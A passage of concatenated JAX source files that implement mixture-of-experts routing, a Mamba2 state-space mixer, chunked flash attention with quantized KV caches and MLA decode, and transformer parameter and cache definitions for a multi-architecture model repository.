    slot = jnp.zeros((n,), jnp.int32).at[order].set(slot_sorted.astype(jnp.int32))
    return slot


def moe_ffn(p, x2d, cfg, *, capacity: int | None = None):
    """p: {'router','w_gate','w_up','w_down'[, shared_*]}; x2d [T, D].

    Expert weights: w_gate/w_up [E, D, F], w_down [E, F, D].
    Returns (y2d [T, D], aux_loss).
    """
    m = cfg.moe
    act = act_fn(cfg.act)
    T, D = x2d.shape
    E, K = m.num_experts, m.top_k
    if capacity is None:
        capacity = max(int(T * K / E * m.capacity_factor), 4)
    C = capacity

    weights, top_i, aux = router(x2d, p["router"], m)

    flat_e = top_i.reshape(-1)                                # [T*K]
    flat_t = jnp.repeat(jnp.arange(T), K)
    flat_w = weights.reshape(-1)
    slot = _expert_slots(flat_e, E)
    keep = slot < C
    buf_idx = jnp.where(keep, flat_e * C + slot, E * C)       # E*C = drop bin

    buf = jnp.zeros((E * C + 1, D), x2d.dtype).at[buf_idx].set(x2d[flat_t])
    xe = buf[:-1].reshape(E, C, D)

    g = jnp.einsum("ecd,edf->ecf", xe, p["w_gate"])
    if "w_up" in p:
        g = act(g) * jnp.einsum("ecd,edf->ecf", xe, p["w_up"])
    else:
        g = act(g)
    ye = jnp.einsum("ecf,efd->ecd", g, p["w_down"])           # [E,C,D]

    # expert-parallel combine: all-gather the per-expert outputs, then run
    # the (order-sensitive) weighted scatter-add replicated — bit-identical
    # to the single-device combine
    y_tok = tp_replicate(ye).reshape(E * C, D)
    gathered = jnp.take(y_tok, jnp.minimum(buf_idx, E * C - 1), axis=0)
    gathered = gathered * (flat_w * keep).astype(gathered.dtype)[:, None]
    y = jnp.zeros((T, D), jnp.float32).at[flat_t].add(
        gathered.astype(jnp.float32))

    if "shared_w_gate" in p:
        sg = act(x2d @ p["shared_w_gate"]) * (x2d @ p["shared_w_up"])
        y = y + (tp_replicate(sg) @ p["shared_w_down"]).astype(jnp.float32)
    return y.astype(x2d.dtype), aux


def dense_ffn(p, x, cfg):
    """Gated (silu) or plain (gelu) MLP.  x [..., D]."""
    act = act_fn(cfg.act)
    h = act(x @ p["w_gate"])
    if "w_up" in p:
        h = h * (x @ p["w_up"])
    # deterministic TP: gather the mlp-sharded activation before the
    # down-projection so the contraction over d_ff stays local
    return tp_replicate(h) @ p["w_down"]
