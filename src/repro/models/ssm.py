"""Mamba2 / SSD mixer (state-space duality, arXiv:2405.21060).

Prefill/training uses the chunked SSD algorithm: intra-chunk attention-like
masked matmuls + an inter-chunk state scan, all tensor-engine-friendly.
Decode is the O(1) recurrent update.  State layout: h [B, nh, hd, N].
"""
from __future__ import annotations

import jax
import jax.numpy as jnp

from repro.models.common import causal_conv1d, rms_norm


def _segsum(x):
    """log-space cumulative decay matrix: out[..., i, j] = sum_{k=j+1..i} x_k
    for i >= j, -inf otherwise.  x: [..., Q]."""
    Q = x.shape[-1]
    cs = jnp.cumsum(x, axis=-1)
    d = cs[..., :, None] - cs[..., None, :]
    mask = jnp.tril(jnp.ones((Q, Q), bool))
    return jnp.where(mask, d, -jnp.inf)


def ssd_chunked(x, dt, A_log, B_, C_, D_, *, chunk: int, h0=None):
    """Chunked SSD forward.

    x:  [B, S, nh, hd]    dt: [B, S, nh] (post-softplus)
    A_log: [nh]           B_/C_: [B, S, G, N]
    D_: [nh]              h0: initial state [B, nh, hd, N] or None
    Returns (y [B,S,nh,hd], h_final [B,nh,hd,N]).
    """
    Bsz, S, nh, hd = x.shape
    G, N = B_.shape[2], B_.shape[3]
    hpg = nh // G
    Q = min(chunk, S)
    while S % Q:
        Q //= 2
    nc = S // Q

    A = -jnp.exp(A_log.astype(jnp.float32))                  # [nh] negative
    dA = dt.astype(jnp.float32) * A                          # [B,S,nh]

    def r(t, last):  # reshape seq into chunks
        return t.reshape(t.shape[0], nc, Q, *last)

    xc = r(x.astype(jnp.float32), (nh, hd))
    dtc = r(dt.astype(jnp.float32), (nh,))
    dAc = r(dA, (nh,))
    Bc = r(B_.astype(jnp.float32), (G, N))
    Cc = r(C_.astype(jnp.float32), (G, N))

    # intra-chunk (diagonal blocks): y_ij = C_i . B_j * decay(i,j) * dt_j x_j
    L = jnp.exp(_segsum(jnp.moveaxis(dAc, -1, 2)))           # [B,nc,nh,Q,Q]
    CB = jnp.einsum("bcqgn,bckgn->bcgqk", Cc, Bc)            # [B,nc,G,Q,Q]
    CB = jnp.repeat(CB, hpg, axis=2)                         # [B,nc,nh,Q,Q]
    scores = CB * L                                          # [B,nc,nh,Q,Q]
    y_intra = jnp.einsum("bchqk,bckh,bckhd->bcqhd", scores, dtc, xc)

    # per-chunk input state contribution
    cum = jnp.cumsum(dAc, axis=2)                            # [B,nc,Q,nh]
    rem = cum[:, :, -1:, :] - cum                            # decay to chunk end
    w = dtc * jnp.exp(rem)                                   # [B,nc,Q,nh]
    Bh = jnp.repeat(Bc, hpg, axis=3)                         # [B,nc,Q,nh,N]
    states = jnp.einsum("bcqh,bcqhn,bcqhd->bchdn", w, Bh, xc)

    # inter-chunk scan
    chunk_decay = jnp.exp(cum[:, :, -1, :])                  # [B,nc,nh]
    if h0 is None:
        h0 = jnp.zeros((Bsz, nh, hd, N), jnp.float32)
    else:
        h0 = h0.astype(jnp.float32)

    def scan_fn(h, xs):
        dec, st = xs                                         # [B,nh], [B,nh,hd,N]
        h_out = h                                            # state BEFORE chunk
        h_new = h * dec[:, :, None, None] + st
        return h_new, h_out

    hs_in = (jnp.moveaxis(chunk_decay, 1, 0), jnp.moveaxis(states, 1, 0))
    h_final, h_prevs = jax.lax.scan(scan_fn, h0, hs_in)
    h_prevs = jnp.moveaxis(h_prevs, 0, 1)                    # [B,nc,nh,hd,N]

    # inter-chunk output: y_i += C_i . (decay(i,start) * h_prev)
    Ch = jnp.repeat(Cc, hpg, axis=3)                         # [B,nc,Q,nh,N]
    y_inter = jnp.einsum("bcqhn,bcqh,bchdn->bcqhd",
                         Ch, jnp.exp(cum), h_prevs)

    y = (y_intra + y_inter).reshape(Bsz, S, nh, hd)
    y = y + D_.astype(jnp.float32)[None, None, :, None] * x.astype(jnp.float32)
    return y.astype(x.dtype), h_final


def ssd_decode(x, dt, A_log, B_, C_, D_, h):
    """Single-step recurrence.  x [B,1,nh,hd], B_/C_ [B,1,G,N], h [B,nh,hd,N]."""
    Bsz, _, nh, hd = x.shape
    G = B_.shape[2]
    hpg = nh // G
    A = -jnp.exp(A_log.astype(jnp.float32))
    dA = jnp.exp(dt[:, 0].astype(jnp.float32) * A)           # [B,nh]
    Bh = jnp.repeat(B_[:, 0], hpg, axis=1)                   # [B,nh,N]
    Ch = jnp.repeat(C_[:, 0], hpg, axis=1)
    xf = x[:, 0].astype(jnp.float32)                         # [B,nh,hd]
    dtf = dt[:, 0].astype(jnp.float32)                       # [B,nh]
    h_new = (h.astype(jnp.float32) * dA[:, :, None, None]
             + jnp.einsum("bh,bhn,bhd->bhdn", dtf, Bh, xf))
    y = jnp.einsum("bhn,bhdn->bhd", Ch, h_new)
    y = y + D_.astype(jnp.float32)[None, :, None] * xf
    return y[:, None].astype(x.dtype), h_new.astype(h.dtype)


# ---------------------------------------------------------------------------
# full mamba2 block application (projections + conv + SSD + gated norm)
# ---------------------------------------------------------------------------

def mamba_mixer(p, x, cfg, *, mode: str, cache=None, mesh=None, rules=None,
                extras=None):
    """p: param dict; x: [B,S,D].  Returns (y [B,S,D], new_cache).

    Serving extras (all optional, used by the batched engine paths):
      ``state_reset`` [B] — zero the carried conv/ssm state before this
        prefill (fresh admission of a slot that may hold a stale state);
      ``seq_valid`` [B,S] — right-padding mask for bucketed prefill: padded
        positions get dt=0 (decay exp(0)=1, zero input contribution) so the
        final state is exactly the state at each row's true length, and the
        conv window is read at the true length rather than the padded tail;
      ``slot_active`` [B] — rows whose state may be written; inactive rows
        keep their previous state bit-for-bit.
    """
    s = cfg.ssm
    di = cfg.d_inner
    nh = cfg.ssm_heads
    G, N = s.n_groups, s.d_state
    conv_dim = di + 2 * G * N
    ex = extras or {}
    reset = ex.get("state_reset") if mode != "decode" else None
    valid = ex.get("seq_valid") if mode != "decode" else None
    active = ex.get("slot_active")

    zxbcdt = x @ p["in_proj"]                                # [B,S,2di+2GN+nh]
    z, xBC, dt = jnp.split(zxbcdt, [di, di + conv_dim], axis=-1)
    conv_state = None if cache is None else cache["conv"]
    if conv_state is not None and reset is not None:
        conv_state = jnp.where(reset[:, None, None],
                               jnp.zeros_like(conv_state), conv_state)
    lengths = None if valid is None else valid.sum(axis=1).astype(jnp.int32)
    xBC, conv_state = causal_conv1d(xBC, p["conv_w"], conv_state,
                                    lengths=lengths)
    xBC = jax.nn.silu(xBC + p["conv_b"])
    xs, B_, C_ = jnp.split(xBC, [di, di + G * N], axis=-1)
    Bsz, S = x.shape[0], x.shape[1]
    xs = xs.reshape(Bsz, S, nh, s.head_dim)
    B_ = B_.reshape(Bsz, S, G, N)
    C_ = C_.reshape(Bsz, S, G, N)
    dt = jax.nn.softplus(dt.astype(jnp.float32)
                         + p["dt_bias"].astype(jnp.float32))
    if valid is not None:
        dt = jnp.where(valid[:, :, None], dt, 0.0)

    if mode == "decode":
        y, h = ssd_decode(xs, dt, p["A_log"], B_, C_, p["D"], cache["ssm"])
    else:
        h0 = None if cache is None else cache["ssm"]
        if h0 is not None and reset is not None:
            h0 = jnp.where(reset[:, None, None, None],
                           jnp.zeros_like(h0), h0)
        y, h = ssd_chunked(xs, dt, p["A_log"], B_, C_, p["D"],
                           chunk=s.chunk_size, h0=h0)
    y = y.reshape(Bsz, S, di)
    y = rms_norm(y * jax.nn.silu(z), p["norm_scale"], cfg.norm_eps)
    out = y @ p["out_proj"]
    new_cache = None
    if cache is not None:
        new_conv = conv_state.astype(cache["conv"].dtype)
        new_ssm = h.astype(cache["ssm"].dtype)
        if active is not None:
            new_conv = jnp.where(active[:, None, None],
                                 new_conv, cache["conv"])
            new_ssm = jnp.where(active[:, None, None, None],
                                new_ssm, cache["ssm"])
        new_cache = {"conv": new_conv, "ssm": new_ssm}
    return out, new_cache
