"""Attention: chunked flash-style GQA (full/sliding-window/cross) + decode.

All prefill/train attention runs through ``flash_attention`` — an online-
softmax scan over KV chunks so the [Sq, Sk] score matrix is never fully
materialized (mandatory for the 32k-prefill and 500k dry-run shapes).
Decode attention (single query token against a contiguous cache) is a masked
einsum; the paged-cache variant lives in the serving engine / Bass kernel.
"""
from __future__ import annotations

import functools
from typing import Optional

import jax
import jax.numpy as jnp

NEG_INF = -1e30


def _chunk(x, c, axis=1):
    n = x.shape[axis] // c
    new = x.shape[:axis] + (n, c) + x.shape[axis + 1:]
    return x.reshape(new)


def flash_attention(q, k, v, *, causal: bool, q_offset=0,
                    window: Optional[int] = None,
                    kv_lengths=None,
                    chunk: int = 1024,
                    remat_chunks: bool = True):
    """Online-softmax attention.

    q: [B, Sq, H, dh] — k/v: [B, Sk, KV, dh_k]/[B, Sk, KV, dh_v]
    causal: apply causal mask with query positions offset by ``q_offset``
      (a scalar, or a per-row [B] array — the jitted bucketed-prefill path
      runs rows at different cached-prefix depths in one executable)
    window: sliding-window size (keys within [pos_q-window+1, pos_q])
    kv_lengths: [B] valid key prefix lengths (padding mask)
    """
    B, Sq, H, dh = q.shape
    _, Sk, KV, dhk = k.shape
    dhv = v.shape[-1]
    rep = H // KV
    scale = dh ** -0.5 if dhk == dh else dhk ** -0.5
    qr = q.reshape(B, Sq, KV, rep, dh)

    chunk = min(chunk, Sk)
    while Sk % chunk:
        chunk //= 2
    kc = _chunk(k, chunk)            # [B, nc, C, KV, dhk]
    vc = _chunk(v, chunk)
    nc = kc.shape[1]

    # [1, Sq] for a scalar offset, [B, Sq] for per-row offsets
    q_pos = jnp.reshape(jnp.asarray(q_offset), (-1, 1)) + jnp.arange(Sq)

    def body(carry, xs):
        o, m, l = carry
        kj, vj, j = xs
        s = jnp.einsum("bqkrh,bckh->bkrqc", qr.astype(jnp.float32),
                       kj.astype(jnp.float32)) * scale   # [B,KV,rep,Sq,C]
        k_pos = j * chunk + jnp.arange(chunk)
        mask = jnp.ones((q_pos.shape[0], Sq, chunk), bool)
        if causal:
            mask &= q_pos[:, :, None] >= k_pos[None, None, :]
        if window is not None:
            mask &= q_pos[:, :, None] - k_pos[None, None, :] < window
        if kv_lengths is not None:
            mask = mask & (k_pos[None, None, :]
                           < kv_lengths[:, None, None])
        s = jnp.where(mask[:, None, None], s, NEG_INF)
        m_new = jnp.maximum(m, s.max(axis=-1))
        p = jnp.exp(s - m_new[..., None])
        corr = jnp.exp(m - m_new)
        l_new = l * corr + p.sum(axis=-1)
        pv = jnp.einsum("bkrqc,bckh->bkrqh", p, vj.astype(jnp.float32))
        o_new = o * corr[..., None] + pv
        return (o_new, m_new, l_new), None

    if remat_chunks:
        body = jax.checkpoint(body)

    o0 = jnp.zeros((B, KV, rep, Sq, dhv), jnp.float32)
    m0 = jnp.full((B, KV, rep, Sq), NEG_INF, jnp.float32)
    l0 = jnp.zeros((B, KV, rep, Sq), jnp.float32)
    js = jnp.arange(nc)
    (o, m, l), _ = jax.lax.scan(
        body, (o0, m0, l0), (jnp.moveaxis(kc, 1, 0), jnp.moveaxis(vc, 1, 0), js))
    o = o / jnp.maximum(l[..., None], 1e-30)
    o = jnp.moveaxis(o, 3, 1).reshape(B, Sq, H, dhv)
    return o.astype(q.dtype)


def decode_attention(q, k_cache, v_cache, lengths, *,
                     window: Optional[int] = None):
    """One-token attention against a contiguous KV cache.

    q: [B, 1, H, dh]; k_cache/v_cache: [B, S, KV, dh*]; lengths: [B]
    (cache position of the *current* token is lengths-1, already written).
    """
    B, S, KV, dhk = k_cache.shape
    H = q.shape[2]
    rep = H // KV
    dh = q.shape[-1]
    scale = dhk ** -0.5
    qr = q.reshape(B, KV, rep, dh)
    s = jnp.einsum("bkrh,bskh->bkrs", qr.astype(jnp.float32),
                   k_cache.astype(jnp.float32)) * scale
    pos = jnp.arange(S)[None, :]
    mask = pos < lengths[:, None]
    if window is not None:
        mask &= pos >= (lengths[:, None] - window)
    s = jnp.where(mask[:, None, None, :], s, NEG_INF)
    p = jax.nn.softmax(s, axis=-1)
    o = jnp.einsum("bkrs,bskh->bkrh", p, v_cache.astype(jnp.float32))
    return o.reshape(B, 1, H, v_cache.shape[-1]).astype(q.dtype)


def verify_attention(q, k_cache, v_cache, lengths, *,
                     window: Optional[int] = None):
    """Multi-token verification attention against a contiguous KV cache.

    q: [B, Sq, H, dh]; k_cache/v_cache: [B, S, KV, dh*]; lengths: [B, Sq]
    per-query valid key counts (query j's own cache slot is lengths[b,j]-1,
    already written — the speculative-decode verify pass scatters all Sq
    candidate tokens into the cache first, then attends).

    Same masked-full-softmax einsum as ``decode_attention`` with one extra
    query axis: for a given (b, j) the score row, softmax, and PV reduction
    see identical operand values in identical order, so the output is
    bitwise equal to a q_len=1 decode at that position.  That equivalence
    is what makes draft verification exact rather than approximate.
    """
    B, S, KV, dhk = k_cache.shape
    Sq, H, dh = q.shape[1], q.shape[2], q.shape[-1]
    rep = H // KV
    scale = dhk ** -0.5
    qr = q.reshape(B, Sq, KV, rep, dh)
    s = jnp.einsum("bqkrh,bskh->bkrqs", qr.astype(jnp.float32),
                   k_cache.astype(jnp.float32)) * scale
    pos = jnp.arange(S)[None, None, :]
    mask = pos < lengths[:, :, None]                       # [B, Sq, S]
    if window is not None:
        mask &= pos >= (lengths[:, :, None] - window)
    s = jnp.where(mask[:, None, None], s, NEG_INF)
    p = jax.nn.softmax(s, axis=-1)
    o = jnp.einsum("bkrqs,bskh->bkrqh", p, v_cache.astype(jnp.float32))
    return jnp.moveaxis(o, 3, 1).reshape(
        B, Sq, H, v_cache.shape[-1]).astype(q.dtype)


# ---------------------------------------------------------------------------
# Quantized KV pools (fp8_e4m3 / int8, scale per token row)
# ---------------------------------------------------------------------------

# Largest representable magnitude per narrow KV dtype.
KV_QUANT_MAX = {"float8_e4m3fn": 448.0, "int8": 127.0}


def _qmax_for(qdtype) -> float:
    name = jnp.dtype(qdtype).name
    if name not in KV_QUANT_MAX:
        raise ValueError(f"unsupported quantized KV dtype {name}")
    return KV_QUANT_MAX[name]


def quantize_rows(x, nfeat: int, qdtype):
    """Quantize ``x`` to ``qdtype`` with one f32 scale per token row.

    ``nfeat`` trailing axes form the feature block sharing a scale (2 for
    [.., KV, hd] attention KV, 1 for MLA latent/rope vectors).  Returns
    (q, scale) with ``scale.shape == x.shape[:-nfeat]``; scale is
    absmax/qmax so dequantized values cover the row's full range.
    """
    qmax = _qmax_for(qdtype)
    axes = tuple(range(x.ndim - nfeat, x.ndim))
    xf = x.astype(jnp.float32)
    amax = jnp.max(jnp.abs(xf), axis=axes)
    scale = jnp.maximum(amax, 1e-8) / qmax
    q = xf / scale[(...,) + (None,) * nfeat]
    if jnp.dtype(qdtype).kind == "i":
        q = jnp.round(q)
    return jnp.clip(q, -qmax, qmax).astype(qdtype), scale


def dequantize_rows(q, scale):
    """Inverse of ``quantize_rows``: q [.., *feat] x scale [..] -> f32."""
    return q.astype(jnp.float32) * scale[(...,) + (None,) * (q.ndim - scale.ndim)]


# ---------------------------------------------------------------------------
# MLA (DeepSeek-V2 multi-head latent attention)
# ---------------------------------------------------------------------------

def mla_decode_absorbed(q_nope, q_rope, lat_cache, rope_cache, w_uk, w_uv,
                        lengths):
    """Absorbed-projection MLA decode (the MLA inference trick).

    q_nope: [B,1,H,n]  q_rope: [B,1,H,r]
    lat_cache: [B,S,L] (rms-normed latents)  rope_cache: [B,S,r]
    w_uk: [L,H,n]  w_uv: [L,H,v]
    Scores are computed directly against the latent cache — per-token KV
    up-projection never happens at decode time.
    """
    B, _, H, n = q_nope.shape
    scale = (n + q_rope.shape[-1]) ** -0.5
    q_lat = jnp.einsum("bqhn,lhn->bqhl", q_nope.astype(jnp.float32),
                       w_uk.astype(jnp.float32))          # [B,1,H,L]
    s = (jnp.einsum("bqhl,bsl->bhqs", q_lat, lat_cache.astype(jnp.float32))
         + jnp.einsum("bqhr,bsr->bhqs", q_rope.astype(jnp.float32),
                      rope_cache.astype(jnp.float32))) * scale
    mask = jnp.arange(lat_cache.shape[1])[None, :] < lengths[:, None]
    s = jnp.where(mask[:, None, None, :], s, NEG_INF)
    p = jax.nn.softmax(s, axis=-1)
    ctx = jnp.einsum("bhqs,bsl->bqhl", p, lat_cache.astype(jnp.float32))
    o = jnp.einsum("bqhl,lhv->bqhv", ctx, w_uv.astype(jnp.float32))
    return o.astype(q_nope.dtype)                          # [B,1,H,v]
