"""Unified multi-architecture transformer: param/cache defs + forward.

One code path serves all 10+ architectures: the layer stack is a repeating
*period* of (mixer, ffn) sub-layers scanned with stacked weights, plus
optional unrolled prefix layers (e.g. DeepSeek-V2's dense first layer).

Modes: ``train`` (no cache), ``prefill`` (fills a contiguous cache),
``decode`` (one token per sequence against the cache).
"""
from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

import jax
import jax.numpy as jnp

from repro.models import attention as attn
from repro.models import moe as moe_lib
from repro.models import ssm as ssm_lib
from repro.models.common import apply_rope, rms_norm
from repro.models.config import ModelConfig, SubLayer
from repro.models.params import (ParamDef, stack, tp_gather_params,
                                 tp_replicate, tree_map_defs)


# ---------------------------------------------------------------------------
# parameter definitions
# ---------------------------------------------------------------------------

def _attn_defs(cfg: ModelConfig) -> dict:
    D = cfg.d_model
    H, KV = cfg.num_heads, cfg.num_kv_heads
    hd = cfg.resolved_head_dim
    d = {"norm1": ParamDef((D,), ("embed",), "ones")}
    if cfg.mla is not None:
        m = cfg.mla
        qk = m.qk_nope_dim + m.qk_rope_dim
        d.update(
            w_dq=ParamDef((D, m.q_lora_rank), ("embed", "lora"),
                          scale=D ** -0.5),
            q_norm=ParamDef((m.q_lora_rank,), ("lora",), "ones"),
            w_uq=ParamDef((m.q_lora_rank, H, qk), ("lora", "heads", "head_dim"),
                          scale=m.q_lora_rank ** -0.5),
            w_dkv=ParamDef((D, m.kv_lora_rank + m.qk_rope_dim),
                           ("embed", "lora"), scale=D ** -0.5),
            kv_norm=ParamDef((m.kv_lora_rank,), ("lora",), "ones"),
            w_uk=ParamDef((m.kv_lora_rank, H, m.qk_nope_dim),
                          ("lora", "heads", "head_dim"),
                          scale=m.kv_lora_rank ** -0.5),
            w_uv=ParamDef((m.kv_lora_rank, H, m.v_head_dim),
                          ("lora", "heads", "head_dim"),
                          scale=m.kv_lora_rank ** -0.5),
            wo=ParamDef((H, m.v_head_dim, D), ("heads", "head_dim", "embed"),
                        scale=(H * m.v_head_dim) ** -0.5),
        )
        return d
    d.update(
        wq=ParamDef((D, H, hd), ("embed", "heads", "head_dim"),
                    scale=D ** -0.5),
        wk=ParamDef((D, KV, hd), ("embed", "kv_heads", "head_dim"),
                    scale=D ** -0.5),
        wv=ParamDef((D, KV, hd), ("embed", "kv_heads", "head_dim"),
                    scale=D ** -0.5),
        wo=ParamDef((H, hd, D), ("heads", "head_dim", "embed"),
                    scale=(H * hd) ** -0.5),
    )
    if cfg.qk_norm:
        d["q_norm"] = ParamDef((hd,), ("head_dim",), "ones")
        d["k_norm"] = ParamDef((hd,), ("head_dim",), "ones")
    if cfg.cross_attention:
        d["cross_norm"] = ParamDef((D,), ("embed",), "ones")
        for n in ("cross_wq", "cross_wk", "cross_wv"):
            heads = "heads" if n == "cross_wq" else "kv_heads"
            nh = H if n == "cross_wq" else KV
            d[n] = ParamDef((D, nh, hd), ("embed", heads, "head_dim"),
                            scale=D ** -0.5)
        d["cross_wo"] = ParamDef((H, hd, D), ("heads", "head_dim", "embed"),
                                 scale=(H * hd) ** -0.5)
    return d


def _mamba_defs(cfg: ModelConfig) -> dict:
    s = cfg.ssm
    D = cfg.d_model
    di = cfg.d_inner
    nh = cfg.ssm_heads
    conv_dim = di + 2 * s.n_groups * s.d_state
    return dict(
        norm1=ParamDef((D,), ("embed",), "ones"),
        in_proj=ParamDef((D, 2 * di + 2 * s.n_groups * s.d_state + nh),
                         ("embed", "d_inner"), scale=D ** -0.5),
        conv_w=ParamDef((s.d_conv, conv_dim), ("conv", "conv_dim"),
                        scale=s.d_conv ** -0.5),
        conv_b=ParamDef((conv_dim,), ("conv_dim",), "zeros"),
        A_log=ParamDef((nh,), ("ssm_heads",), "ssm_a_log"),
        D=ParamDef((nh,), ("ssm_heads",), "ones"),
        dt_bias=ParamDef((nh,), ("ssm_heads",), "dt_bias"),
        norm_scale=ParamDef((di,), ("d_inner",), "ones"),
        out_proj=ParamDef((di, D), ("d_inner", "embed"), scale=di ** -0.5),
    )


def _ffn_defs(cfg: ModelConfig, kind: str) -> dict:
    D = cfg.d_model
    d = {"norm2": ParamDef((D,), ("embed",), "ones")}
    gated = cfg.act == "silu"
    if kind == "dense":
        F = cfg.d_ff
        d["w_gate"] = ParamDef((D, F), ("embed", "mlp"), scale=D ** -0.5)
        if gated:
            d["w_up"] = ParamDef((D, F), ("embed", "mlp"), scale=D ** -0.5)
        d["w_down"] = ParamDef((F, D), ("mlp", "embed"), scale=F ** -0.5)
        return d
    m = cfg.moe
    E, F = m.num_experts, m.d_ff_expert
    d["router"] = ParamDef((D, E), ("embed", "experts"), scale=D ** -0.5)
    d["w_gate"] = ParamDef((E, D, F), ("experts", "embed", "mlp"),
                           scale=D ** -0.5)
    if gated:
        d["w_up"] = ParamDef((E, D, F), ("experts", "embed", "mlp"),
                             scale=D ** -0.5)
    d["w_down"] = ParamDef((E, F, D), ("experts", "mlp", "embed"),
                           scale=F ** -0.5)
    if m.num_shared_experts:
        Fs = m.num_shared_experts * F
        d["shared_w_gate"] = ParamDef((D, Fs), ("embed", "mlp"),
                                      scale=D ** -0.5)
        if gated:
            d["shared_w_up"] = ParamDef((D, Fs), ("embed", "mlp"),
                                        scale=D ** -0.5)
        d["shared_w_down"] = ParamDef((Fs, D), ("mlp", "embed"),
                                      scale=Fs ** -0.5)
    return d


def _sublayer_defs(cfg: ModelConfig, sl: SubLayer) -> dict:
    d = {"mixer": _attn_defs(cfg) if sl.mixer == "attn" else _mamba_defs(cfg)}
    if sl.ffn is not None:
        d["ffn"] = _ffn_defs(cfg, sl.ffn)
    return d


def param_defs(cfg: ModelConfig) -> dict:
    D, Vp = cfg.d_model, cfg.padded_vocab
    # tied embeddings double as the LM head: init at D^-1/2 so initial
    # logits are O(1) (otherwise the init xent explodes to ~sqrt(D)·lnV)
    defs: dict = {
        "embed": ParamDef((Vp, D), ("vocab", "embed"),
                          scale=D ** -0.5 if cfg.tie_embeddings else 1.0),
        "final_norm": ParamDef((D,), ("embed",), "ones"),
    }
    if not cfg.tie_embeddings:
        defs["lm_head"] = ParamDef((D, Vp), ("embed", "vocab"),
                                   scale=D ** -0.5)
    if not cfg.use_rope and not cfg.is_attention_free and not cfg.has_ssm:
        defs["pos_embed"] = ParamDef(
            (cfg.max_position_embeddings, D), ("cache_seq", "embed"),
            scale=0.02)
    if cfg.vision_embed_dim:
        defs["patch_proj"] = ParamDef(
            (cfg.vision_embed_dim, D), ("vision", "embed"),
            scale=cfg.vision_embed_dim ** -0.5)
    if cfg.prefix:
        defs["prefix"] = {
            f"l{i}": _sublayer_defs(cfg, sl) for i, sl in enumerate(cfg.prefix)}
    period = {f"s{j}": _sublayer_defs(cfg, sl)
              for j, sl in enumerate(cfg.period)}
    defs["blocks"] = stack(period, cfg.n_blocks)
    return defs


# ---------------------------------------------------------------------------
# cache definitions + per-leaf contract
# ---------------------------------------------------------------------------

# Every cache leaf declares its *kind*, and the serving engine consumes the
# derived CacheLeafSpec instead of string-sniffing the tree:
#   paged_pool     — token-indexed KV; the engine repacks it into refcounted
#                    block pools (swap/fork/COW/prefix-cache eligible)
#   per_slot_state — O(1)-per-sequence recurrent state (SSM conv window +
#                    ssd state); lives as a [max_num_seqs, ...] device
#                    carry, swaps as one opaque host record
#   cross_attn_kv  — encoder KV written once at prefill, read-only at
#                    decode; re-prefilled on resume, never offloaded
KIND_PAGED = "paged_pool"
KIND_STATE = "per_slot_state"
KIND_CROSS = "cross_attn_kv"


def _sublayer_cache_defs(cfg: ModelConfig, sl: SubLayer, batch: int,
                         max_len: int, dtype_tag: str = "cache") -> dict:
    hd = cfg.resolved_head_dim
    if sl.mixer == "attn":
        if cfg.mla is not None:
            m = cfg.mla
            d = dict(
                lat=ParamDef((batch, max_len, m.kv_lora_rank),
                             ("batch", "cache_seq", "lora"),
                             kind=KIND_PAGED),
                rope=ParamDef((batch, max_len, m.qk_rope_dim),
                              ("batch", "cache_seq", "lora"),
                              kind=KIND_PAGED),
            )
        else:
            kv = (batch, max_len, cfg.num_kv_heads, hd)
            dims = ("batch", "cache_seq", "kv_heads", "head_dim")
            d = dict(k=ParamDef(kv, dims, kind=KIND_PAGED),
                     v=ParamDef(kv, dims, kind=KIND_PAGED))
        if cfg.cross_attention:
            ck = (batch, cfg.num_encoder_frames, cfg.num_kv_heads, hd)
            dims = ("batch", "frames", "kv_heads", "head_dim")
            d["cross_k"] = ParamDef(ck, dims, kind=KIND_CROSS)
            d["cross_v"] = ParamDef(ck, dims, kind=KIND_CROSS)
        return d
    s = cfg.ssm
    conv_dim = cfg.d_inner + 2 * s.n_groups * s.d_state
    return dict(
        conv=ParamDef((batch, s.d_conv - 1, conv_dim),
                      ("batch", "conv", "conv_dim"), kind=KIND_STATE),
        ssm=ParamDef((batch, cfg.ssm_heads, s.head_dim, s.d_state),
                     ("batch", "ssm_heads", "head_dim", "ssm_state"),
                     dtype="state", kind=KIND_STATE),
    )


@dataclass(frozen=True)
class CacheLeafSpec:
    """The explicit cache contract for one leaf, consumed by the engine."""
    name: str            # leaf key within its sublayer ("k_pool", "ssm", ..)
    path: tuple          # full path in the cache tree
    kind: str            # KIND_PAGED | KIND_STATE | KIND_CROSS
    dtype: str           # ParamDef dtype tag ("cache"/"state"/"kv:*"/..)
    shape: tuple         # declared shape (post-poolification for pools)
    donate: bool         # safe to mutate in place inside the jitted step
    hoist: bool          # rides the hoisted flat pool carry in forward()
    swap: str            # paged | opaque | reprefill
    # tensor-parallel geometry (DESIGN.md §Tensor-parallel serving): how
    # many device shards this leaf splits into on the engine's mesh, and
    # which logical dim it splits over (None = replicated).  tp=1 engines
    # leave the defaults, so per-device bytes == logical bytes.
    shards: int = 1
    shard_dim: Optional[str] = None


def cache_leaf_specs(defs) -> dict:
    """Walk a cache-def tree and emit a {path: CacheLeafSpec} contract."""
    specs: dict = {}

    def walk(d, path):
        for kk, v in d.items():
            if isinstance(v, dict):
                walk(v, path + (kk,))
                continue
            kind = v.kind or KIND_PAGED
            specs[path + (kk,)] = CacheLeafSpec(
                name=kk, path=path + (kk,), kind=kind, dtype=v.dtype,
                shape=tuple(v.shape),
                donate=kind != KIND_CROSS,
                hoist=kk.endswith("_pool"),
                swap={KIND_PAGED: "paged", KIND_STATE: "opaque",
                      KIND_CROSS: "reprefill"}[kind])

    walk(defs, ())
    return specs


def cache_defs(cfg: ModelConfig, batch: int, max_len: int) -> dict:
    d: dict = {}
    if cfg.prefix:
        d["prefix"] = {
            f"l{i}": _sublayer_cache_defs(cfg, sl, batch, max_len)
            for i, sl in enumerate(cfg.prefix)}
    period = {f"s{j}": _sublayer_cache_defs(cfg, sl, batch, max_len)
              for j, sl in enumerate(cfg.period)}
    d["blocks"] = stack(period, cfg.n_blocks)
    return d


def init_cache(cfg: ModelConfig, batch: int, max_len: int,
               dtype=jnp.bfloat16):
    return tree_map_defs(
        lambda pd: jnp.zeros(
            pd.shape, jnp.float32 if pd.dtype == "state" else dtype),
        cache_defs(cfg, batch, max_len))


# ---------------------------------------------------------------------------
# paged-pool access (quantization-aware)
# ---------------------------------------------------------------------------
#
# All paged branches funnel reads/writes through these three helpers.  When
# the engine materialized a sibling ``<name>_scale_pool`` leaf (kv_dtype =
# fp8_e4m3 / int8) values are quantized on scatter with one f32 scale per
